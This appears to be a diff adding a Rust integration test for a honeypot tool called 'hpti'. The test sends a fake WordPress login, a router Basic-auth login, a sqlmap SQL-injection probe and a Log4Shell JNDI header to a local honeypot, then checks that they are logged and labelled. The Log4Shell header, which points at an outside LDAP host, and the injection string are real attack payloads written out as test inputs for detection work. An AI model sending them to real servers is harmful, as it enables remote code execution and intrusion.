@@ -445,3 +445,154 @@ fn run_as_root_binds_a_low_port_then_drops_to_the_configured_user() {
         "the session was stored: {commands}"
     );
 }
+
+/// The HTTP sensor through `hpti run`: a WordPress login from curl, a Basic-auth login
+/// on a router persona (by virtual host), an sqlmap probe and a Log4Shell header. After a
+/// clean shutdown `hpti query credentials` lists both logins and `hpti query sessions`
+/// the HTTP connections; the stored requests carry their labels.
+#[test]
+fn run_then_web_attacks_then_query_shows_logins_and_labels() {
+    if !require_tool("curl") {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let config = dir.path().join("hpti.toml");
+    std::fs::write(
+        &config,
+        format!(
+            "[data]\ndir = {:?}\n\n[metrics]\nenabled = false\n\n\
+             [sensors.web]\ntype = \"http\"\nlisten = \"127.0.0.1:0\"\napp = \"wordpress\"\n\
+             apps = [{{ app = \"router\", host = \"192.168.0.1\" }}]\n",
+            dir.path().join("data")
+        ),
+    )
+    .unwrap();
+    let mut child = hpti()
+        .arg("--config")
+        .arg(&config)
+        .arg("run")
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut log = BufReader::new(child.stderr.take().unwrap()).lines();
+    let web = loop {
+        let line = log.next().expect("hpti run logs its listener").unwrap();
+        if line.contains("HTTP honeypot listening") {
+            break line
+                .split("listening on ")
+                .nth(1)
+                .map(|rest| rest.split_whitespace().next().unwrap().to_owned())
+                .unwrap();
+        }
+    };
+    let drain = std::thread::spawn(move || log.map_while(Result::ok).count());
+    let curl = |args: &[&str]| {
+        let output = Command::new("curl")
+            .args(["-s", "-o", "/dev/null", "-w", "%{http_code}"])
+            .args(args)
+            .output()
+            .unwrap();
+        String::from_utf8_lossy(&output.stdout).into_owned()
+    };
+    // WordPress's login form, as a browser posts it: refused with WordPress's page.
+    assert_eq!(
+        curl(&[
+            "-d",
+            "log=admin&pwd=Summer2024!&wp-submit=Log+In",
+            &format!("http://{web}/wp-login.php"),
+        ]),
+        "200"
+    );
+    // The router persona on its virtual host: Basic auth refused.
+    assert_eq!(
+        curl(&[
+            "-u",
+            "admin:password1",
+            "-H",
+            "Host: 192.168.0.1",
+            &format!("http://{web}/"),
+        ]),
+        "401"
+    );
+    // sqlmap's boolean probe and a Log4Shell header.
+    curl(&[
+        "-A",
+        "sqlmap/1.7.2#stable (https://sqlmap.org)",
+        &format!("http://{web}/?p=1%27%20AND%203617%3D3617%20AND%20%27a%27%3D%27a"),
+    ]);
+    curl(&[
+        "-H",
+        "X-Api-Version: ${jndi:ldap://203.0.113.5:1389/Basic/Command/Base64/aWQ=}",
+        &format!("http://{web}/"),
+    ]);
+
+    std::thread::sleep(Duration::from_millis(300));
+    assert!(
+        Command::new("kill")
+            .args(["-TERM", &child.id().to_string()])
+            .status()
+            .unwrap()
+            .success()
+    );
+    assert!(child.wait().unwrap().success());
+    drain.join().unwrap();
+
+    let credentials = query(&config, "credentials");
+    let mut pairs: Vec<(String, String)> = credentials
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|c| {
+            (
+                c["username"].as_str().unwrap().to_owned(),
+                c["password"].as_str().unwrap().to_owned(),
+            )
+        })
+        .collect();
+    pairs.sort();
+    assert_eq!(
+        pairs,
+        vec![
+            ("admin".to_owned(), "Summer2024!".to_owned()),
+            ("admin".to_owned(), "password1".to_owned())
+        ],
+        "{credentials}"
+    );
+    let sessions = query(&config, "sessions");
+    assert!(
+        sessions
+            .as_array()
+            .unwrap()
+            .iter()
+            .all(|s| s["protocol"] == "http"),
+        "{sessions}"
+    );
+    assert_eq!(sessions.as_array().unwrap().len(), 4, "{sessions}");
+
+    // The labels, as stored.
+    let runtime = tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()
+        .unwrap();
+    let docs: Vec<String> = runtime.block_on(async {
+        let url = format!("sqlite://{}", dir.path().join("data/hpti.db").display());
+        let pool = sqlx::SqlitePool::connect(&url).await.unwrap();
+        sqlx::query_scalar("SELECT doc FROM events WHERE kind = 'http.request'")
+            .fetch_all(&pool)
+            .await
+            .unwrap()
+    });
+    assert_eq!(docs.len(), 4, "{docs:?}");
+    let labelled = |needle: &str, label: &str| {
+        docs.iter().any(|doc| {
+            let doc: serde_json::Value = serde_json::from_str(doc).unwrap();
+            doc.to_string().contains(needle)
+                && doc["data"]["labels"]
+                    .as_array()
+                    .is_some_and(|labels| labels.iter().any(|l| l == label))
+        })
+    };
+    assert!(labelled("sqlmap", "sqli"), "{docs:?}");
+    assert!(labelled("sqlmap", "scanner:sqlmap"), "{docs:?}");
+    assert!(labelled("jndi:ldap", "log4shell"), "{docs:?}");
+}
